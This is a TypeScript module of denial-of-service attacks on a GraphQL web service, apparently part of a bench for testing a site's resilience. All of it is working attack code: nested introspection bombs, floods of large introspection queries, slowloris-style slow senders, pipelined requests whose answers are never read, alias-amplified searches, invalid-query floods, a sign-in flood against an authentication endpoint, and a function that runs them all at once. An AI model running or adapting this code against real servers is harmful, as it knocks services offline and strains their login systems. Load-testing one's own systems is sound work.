import { request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { getIntrospectionQuery } from 'graphql'

/** Attacks the site from one network, over several connections, until told to stop. */
export type Attack = (address: string, signal: AbortSignal) => Promise<unknown>

const repeat = (times: number, part: (index: number) => string) =>
  Array.from({ length: times }, (_, index) => part(index)).join(' ')

let sent = 0

/** Sends bodies, each after the previous response, over several connections. */
function flood(connections: number, bodyOf: (index: number) => string, path = '/graphql'): Attack {
  return (address, signal) =>
    times(connections, async () => {
      while (!signal.aborted) await post(address, path, bodyOf(sent++), signal)
    })
}

const query = (text: string) => JSON.stringify({ query: text })

const bomb = (index: number) =>
  query(`{ __schema { types { fields { type { ofType {
    ${repeat(50, (i) => `a${index}x${i}: fields { name description args { name description } }`)} } } } } } }`)

/** The maximum allowed, and never from the cache. */
const large = (index: number) => query(`# ${index}\n${getIntrospectionQuery({ inputValueDeprecation: true })}`)

const search = (index: number, aliases: number) =>
  query(
    `{ ${repeat(aliases, (i) => `a${i}: plants(search: "te a la de en el ho ${index}x${i}", first: 1) { totalCount }`)} }`,
  )

const invalid = (index: number) => query(`{ ${repeat(300, (i) => `plant${index}z${i}`)} }`)

export const ATTACKS: Record<string, Attack> = {
  'introspection bombs': flood(20, bomb),
  'large introspections': flood(20, large),
  'answers that nobody reads': async (address, signal) => {
    await times(200, async () => {
      while (!signal.aborted) {
        const body = large(sent++)
        const text = `POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`
        // Pipelined, since the first requests leave the system's buffers immediately.
        await hold(address, text.repeat(20), signal)
      }
    })
  },
  'slow senders': async (address, signal) => {
    await times(600, async (index) => {
      const length =
        index % 2
          ? 'POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 250000\r\n\r\n'
          : 'GET / HTTP/1.1\r\nx: '
      while (!signal.aborted) await hold(address, length + ' '.repeat(index % 2 ? 200_000 : 10), signal)
    })
  },
  'aliased searches within the limit': flood(20, (index) => search(index, 8)),
  'aliased searches beyond it': flood(20, (index) => search(index, 60)),
  'invalid queries': flood(20, invalid),
  'sign-ins': flood(
    20,
    (index) => JSON.stringify({ email: `nobody${index}@example.org`, password: 'not the password' }),
    '/api/auth/sign-in/email',
  ),
}

export const allAtOnce: Attack = (address, signal) =>
  Promise.all(Object.values(ATTACKS).map((attack) => attack(address, signal)))

async function times(count: number, run: (index: number) => Promise<unknown>): Promise<void> {
  await Promise.all(Array.from({ length: count }, (_, index) => run(index)))
}

function post(address: string, path: string, body: string, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json', origin: address, 'content-length': Buffer.byteLength(body) }
    const asking = request(`${address}${path}`, { method: 'POST', headers, signal, agent: false }, (response) => {
      response.resume().once('close', resolve)
    })
    // A refused connection is not retried immediately, or the bench would overload itself.
    asking.once('error', () => setTimeout(resolve, 1000)).end(body)
  })
}

/** Sends a request, reads nothing, and stays until it is dropped. */
async function hold(address: string, text: string, signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(address)
  const socket = connect({ host: hostname, port: Number(port) })
  socket.on('error', () => {}).pause()
  const closed = new Promise((resolve) => socket.once('close', resolve))
  const stop = () => socket.destroy()
  signal.addEventListener('abort', stop, { once: true })
  socket.write(text)
  await closed
  signal.removeEventListener('abort', stop)
  await wait(1000)
}
